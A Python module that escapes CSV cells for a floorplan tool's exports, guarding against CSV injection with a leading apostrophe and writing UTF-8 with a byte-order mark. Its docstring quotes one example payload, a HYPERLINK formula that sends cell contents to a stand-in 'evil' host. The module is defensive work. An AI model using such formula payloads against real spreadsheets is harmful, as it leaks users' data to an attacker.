"""CSV that spreadsheets open safely: the one place every CSV floorplan writes goes through.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by
Excel, LibreOffice and Google Sheets as a formula (OWASP "CSV injection"): a room named
``=HYPERLINK("http://evil/?"&A1)`` in a plan would run when the summary is opened.
Such text cells get a leading apostrophe, which the spreadsheet hides and which makes
the cell plain text; numbers stay numbers (a negative number is not text, so it is left
alone). Files are UTF-8 with a byte-order mark, so Excel shows ``m²`` and non-English
names rather than mojibake.

>>> safe_cell('=1+2')
"'=1+2"
>>> safe_cell(-0.5), safe_cell("Bedroom 1"), safe_cell(None)
(-0.5, 'Bedroom 1', '')
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

#: what a spreadsheet takes as the start of a formula
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
BOM = "\ufeff"


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell no spreadsheet runs: text that would start a formula is
    prefixed with an apostrophe; ``None`` is an empty cell; numbers are left as they are."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return value
    text = str(value)
    if text.startswith(FORMULA_START):
        return "'" + text
    return text


def csv_text(header: Sequence[str], rows: Iterable[Mapping[str, Any] | Sequence[Any]],
             bom: bool = True) -> str:
    """The CSV document: ``header`` then ``rows`` (mappings keyed by the header, or
    sequences in its order), every cell through :func:`safe_cell`, ``\\r\\n`` line ends
    (RFC 4180), a byte-order mark first unless ``bom`` is false."""
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\r\n")
    w.writerow([safe_cell(h) for h in header])
    for row in rows:
        cells = [row.get(h) for h in header] if isinstance(row, Mapping) else list(row)
        w.writerow([safe_cell(c) for c in cells])
    return (BOM if bom else "") + buf.getvalue()
